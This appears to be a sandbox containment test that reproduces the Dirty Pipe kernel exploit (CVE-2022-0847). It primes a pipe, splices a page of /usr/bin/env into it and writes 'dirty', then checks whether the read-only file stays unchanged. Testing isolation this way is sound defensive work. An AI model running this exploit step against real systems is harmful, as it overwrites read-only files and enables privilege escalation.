# expect: held
# A page of a read-only file in a pipe that still takes data (CVE-2022-0847).
# layers: seccomp kernel
before = open("/usr/bin/env", "rb").read(4096)
r, w = os.pipe()
size = 65536
os.write(w, bytes(size))
while size:
    size -= len(os.read(r, size))
fd = os.open("/usr/bin/env", os.O_RDONLY)
offset = ctypes.c_int64(4)
result, number = syscall("splice", fd, offset, w, None, 1, 0)
held(f"splice: {name_of(number)}") if number else os.write(w, b"dirty")
(held if open("/usr/bin/env", "rb").read(4096) == before else escaped)("/usr/bin/env is as it was")
